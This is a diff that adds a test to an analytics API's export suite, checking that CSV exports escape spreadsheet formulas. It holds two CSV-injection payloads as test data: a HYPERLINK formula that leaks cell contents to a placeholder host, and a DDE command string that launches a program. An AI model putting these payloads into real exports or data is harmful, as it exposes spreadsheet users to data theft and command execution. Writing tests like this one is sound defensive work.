@@ -284,6 +284,20 @@ describe('exports of a small workspace', () => {
     expect(jsonl((await download(server, '/api/v1/export/users')).text)).toHaveLength(2)
   })
 
+  it('neutralises formulas in CSV cells, as the dashboard’s CSV buttons do', async () => {
+    const hostile = await server.store.createWorkspace({ name: 'Hostile', timezone: 'UTC', currency: 'USD' })
+    const link = '=HYPERLINK("https://evil.test/?"&A1,"Click me")'
+    const command = "-2+3+cmd|' /C calc'!A0"
+    const message = { type: 'track', userId: link, event: command, messageId: 'f1', timestamp: at(1) }
+    expect((await server.post('/v1/track', message, basic(hostile.token))).status).toBe(200)
+    const events = await download(server, '/api/v1/export/events?format=csv', hostile.apiKey)
+    const row = csv(events.text)[0]!
+    expect([row.user, row.name]).toEqual([`'${link}`, `'${command}`])
+    expect(events.text).toContain(`"'=HYPERLINK(""https://evil.test/?""&A1,""Click me"")"`)
+    const users = csv((await download(server, '/api/v1/export/users?format=csv', hostile.apiKey)).text)
+    expect(users.map((u) => u.external_id)).toEqual([`'${link}`])
+  })
+
   it('exports an empty workspace as a header only, or nothing', async () => {
     const empty = await server.store.createWorkspace({ name: 'Empty', timezone: 'UTC', currency: 'USD' })
     expect((await download(server, '/api/v1/export/events', empty.apiKey)).text).toBe('')
